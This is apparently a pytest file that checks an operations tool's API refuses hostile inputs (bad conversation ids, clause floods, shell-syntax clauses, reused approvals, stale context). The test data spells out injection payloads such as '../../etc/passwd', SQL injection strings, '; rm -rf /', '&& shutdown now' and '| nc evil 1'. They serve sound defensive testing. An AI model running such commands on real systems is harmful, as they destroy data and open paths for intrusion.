"""Hostile turns over the API: conversation ids that are not ids, requests with too many
clauses, clause text with shell syntax, follow-ups that try to reuse an approval, and discovery
filters that match nothing. Each is a clear answer or 4xx, never a 5xx, and nothing runs."""

from __future__ import annotations

from datetime import timedelta

import pytest
from sqlalchemy import select
from tests.api.harness import Api

from opsconductor.identity.models import Role
from opsconductor.pipeline.pipeline import MAX_CLAUSES
from opsconductor.store.tables import ConversationRow, ExecutionRow

HOSTILE_IDS = [
    "",
    "a" * 10_240,
    "x\u0000y",
    "ünïcode",
    "\u202eevil",
    "../../etc/passwd",
    "..",
    "' OR 1=1 --",
    "a;DROP TABLE conversations",
    "a b",
    "-leading-dash",
]


@pytest.mark.parametrize("conversation_id", HOSTILE_IDS, ids=range(len(HOSTILE_IDS)))
async def test_a_hostile_conversation_id_is_a_422_and_stores_nothing(
    api: Api, conversation_id: str
) -> None:
    response = await api.client.post(
        "/requests",
        json={"text": "restart nginx on web-prod-02", "conversation_id": conversation_id},
        headers=api.headers(Role.OPERATOR),
    )
    assert response.status_code == 422, response.text
    assert "conversation_id" in response.json()["detail"]
    async with api.conductor.db.reader() as session:
        assert list(await session.scalars(select(ConversationRow))) == []
        assert list(await session.scalars(select(ExecutionRow))) == []


async def test_a_hundred_clauses_are_refused_with_the_limit(api: Api) -> None:
    text = "restart nginx on web-prod-01" + " then restart it" * 99
    document = await api.ask(Role.OPERATOR, text, conversation_id="many")
    assert document["response"]["type"] == "error", document["response"]
    assert f"at most {MAX_CLAUSES}" in document["response"]["message"]
    assert "Traceback" not in document["response"]["message"]
    assert document["plan"] is None and document["execution"] is None
    async with api.conductor.db.reader() as session:
        assert list(await session.scalars(select(ExecutionRow))) == []


async def test_as_many_clauses_as_the_limit_are_planned(api: Api) -> None:
    text = "check disk space on web-prod-01" + " then check disk space" * (MAX_CLAUSES - 1)
    document = await api.ask(Role.OPERATOR, text, dry_run=True)
    assert document["plan"] is not None, document["response"]
    assert len(document["plan"]["steps"]) == MAX_CLAUSES


@pytest.mark.parametrize(
    "clause",
    [
        "and check disk space on $(whoami)",
        "and then `reboot`",
        "; rm -rf /",
        "&& shutdown now",
        "| nc evil 1",
        "and check disk space on ${HOME}",
        "|| true",
    ],
)
async def test_a_clause_with_shell_syntax_refuses_the_whole_request(api: Api, clause: str) -> None:
    document = await api.ask(
        Role.OPERATOR, f"restart nginx on web-prod-01 {clause}", confirm=True, conversation_id="sh"
    )
    assert document["response"]["type"] == "error", document["response"]
    assert document["plan"] is None and document["execution"] is None
    async with api.conductor.db.reader() as session:
        assert list(await session.scalars(select(ExecutionRow))) == []


@pytest.mark.parametrize("follow_up", ["approve it", "yes do it", "yes", "go ahead", "approved"])
async def test_an_approval_never_carries_over_to_a_follow_up(api: Api, follow_up: str) -> None:
    first = await api.ask(Role.OPERATOR, "stop nginx on web-prod-02", conversation_id="ap")
    assert first["approval"]["status"] == "pending" and first["approval"]["level"] == 2
    follow = await api.ask(Role.OPERATOR, follow_up, confirm=True, conversation_id="ap")
    # Whatever the words were read as, nothing was approved and nothing ran.
    assert follow["approval"]["status"] != "approved", follow
    assert follow["execution"] is None or follow["execution"]["state"] == "pending_approval"
    shown = await api.client.get(
        f"/executions/{first['execution']['id']}", headers=api.headers(Role.VIEWER)
    )
    assert shown.json()["status"] == "pending_approval", shown.json()
    async with api.conductor.db.reader() as session:
        states = {row.state for row in await session.scalars(select(ExecutionRow))}
    assert states == {"pending_approval"}, states


async def test_restart_it_after_the_target_was_deleted_does_not_act(api: Api) -> None:
    await api.ask(
        Role.OPERATOR, "restart nginx on web-prod-02", dry_run=True, conversation_id="gone"
    )
    deleted = await api.client.delete("/assets/web-prod-02", headers=api.headers(Role.ADMIN))
    assert deleted.status_code == 204, deleted.text
    follow = await api.ask(Role.OPERATOR, "restart it", confirm=True, conversation_id="gone")
    assert follow["plan"] is None and follow["execution"] is None, follow
    assert follow["response"]["type"] in {"clarification", "error"}, follow["response"]
    async with api.conductor.db.reader() as session:
        assert list(await session.scalars(select(ExecutionRow))) == []


async def test_restart_it_after_the_target_was_re_pointed_plans_the_new_address(api: Api) -> None:
    before = await api.ask(
        Role.OPERATOR, "restart nginx on web-prod-02", dry_run=True, conversation_id="moved"
    )
    moved = await api.client.patch(
        "/assets/web-prod-02", json={"ip_address": "10.9.9.9"}, headers=api.headers(Role.ADMIN)
    )
    assert moved.status_code == 200, moved.text
    follow = await api.ask(Role.OPERATOR, "restart it", dry_run=True, conversation_id="moved")
    fresh = await api.ask(Role.OPERATOR, "restart nginx on web-prod-02", dry_run=True)
    # The follow-up is planned against the inventory of now (the hash covers the address),
    # exactly as the same request asked afresh, never against the address the context saw.
    assert follow["plan"]["hash"] != before["plan"]["hash"]
    assert follow["plan"]["hash"] == fresh["plan"]["hash"]


async def test_expired_context_is_not_used(api: Api) -> None:
    await api.ask(
        Role.OPERATOR, "restart nginx on web-prod-02", dry_run=True, conversation_id="old"
    )
    async with api.conductor.db.session() as session:
        row = await session.get(ConversationRow, ("alice", "old"))
        assert row is not None
        row.updated_at = row.updated_at - timedelta(
            seconds=api.conductor.settings.conversation_ttl_s + 1
        )
    follow = await api.ask(Role.OPERATOR, "restart it", confirm=True, conversation_id="old")
    assert follow["plan"] is None and follow["decision"]["read_as"] is None, follow
